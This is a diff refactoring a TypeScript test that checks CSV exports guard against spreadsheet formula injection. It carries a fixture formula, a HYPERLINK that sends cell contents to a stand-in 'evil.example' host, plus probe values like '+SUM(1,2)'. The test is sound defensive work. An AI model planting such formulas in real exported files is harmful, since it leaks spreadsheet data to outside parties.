@@ -4,15 +4,15 @@
  * the API's CSV and in `iif export all`, on SQLite and PostgreSQL.
  */
 import assert from "node:assert/strict";
-import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { it } from "node:test";
 import { cliActor } from "../../src/lib/actor.ts";
 import { ImportService } from "../../src/modules/activities/import.service.ts";
 import { describeEachDialect } from "../helpers/app.ts";
-import { runIif } from "../helpers/cli.ts";
 import { csvRecords } from "../helpers/csv.ts";
+import { exportAll, requirementInput } from "../helpers/records.ts";
 
 const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
 const dir = mkdtempSync(join(tmpdir(), "iif-csv-guard-"));
@@ -47,19 +47,7 @@ describeEachDialect("CSV formula guard", (ctx) => {
 		const r = await new ImportService(ctx().db.database).importFiles([path], cliActor);
 		assert.equal(r.failed.length, 0, JSON.stringify(r.failed));
 		await ctx().services.requirements.create(
-			{
-				slug: `guard-requirement-${ctx().dialect}`,
-				title: "Guard test requirement",
-				goal: "mdg:8",
-				scope: "global",
-				amount: "1000",
-				currency: "USD",
-				frequency: "total",
-				price_basis: "current",
-				period_start: "2020-01-01",
-				period_end: "2020-12-31",
-				source_title: "-2+3 estimate",
-			},
+			requirementInput(`guard-requirement-${ctx().dialect}`, { source_title: "-2+3 estimate" }),
 			cliActor,
 		);
 		const activities = await csv(ctx, "/api/v1/activities?format=csv&reporting_org=XM-GUARD");
@@ -79,14 +67,8 @@ describeEachDialect("CSV formula guard", (ctx) => {
 		assert.equal(json.body.items[0].reporting_org.name, formula);
 
 		// And the dump the operator writes, through the same columns.
-		const out = join(dir, `dump-${ctx().dialect}`);
-		const dump = await runIif(["export", "all", "--out", out], {
-			IIF_DATABASE_URL: ctx().db.url,
-			IIF_DEMO: "off",
-		});
-		assert.equal(dump.code, 0, dump.stderr);
-		const [stem] = readdirSync(out).filter((n) => n.startsWith("iif-dump-"));
-		const dumped = csvRecords(readFileSync(join(out, stem as string, "transactions.csv"), "utf8"));
+		const dumpDir = await exportAll(ctx(), join(dir, `dump-${ctx().dialect}`));
+		const dumped = csvRecords(readFileSync(join(dumpDir, "transactions.csv"), "utf8"));
 		const row = dumped.rows.find((x) => x.provider_org_name === "'+SUM(1,2)");
 		assert.ok(row, "the dump's transactions are guarded too");
 		assert.equal(row.reporting_org_name, `'${formula}`);
